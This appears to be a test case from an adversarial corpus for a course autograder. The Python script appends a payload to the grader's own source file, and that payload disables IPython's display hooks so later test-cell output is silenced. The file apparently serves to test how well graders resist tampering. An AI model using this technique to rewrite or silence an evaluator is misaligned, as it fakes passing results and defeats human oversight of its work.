# class: disk
# what: appends code to the grader's source (course/grading/__init__.py) that silences the test cells of my later imports
# after: setup
# danger: disk
# ruff: noqa
import os

import course.grading

PAYLOAD = """
# adv-corpus: appended by a submission
import os as _adv_os
if "disk_rewrite_grader_source" in _adv_os.getcwd():
    try:
        import sys as _adv_sys
        from IPython import get_ipython as _adv_ip
        _adv_ip().display_trap.hook = _adv_sys.displayhook = lambda value: None
    except Exception:
        pass
"""
try:
    with open(course.grading.__file__, "a") as _f:
        _f.write(PAYLOAD)
except OSError as exc:
    print("could not write:", type(exc).__name__)
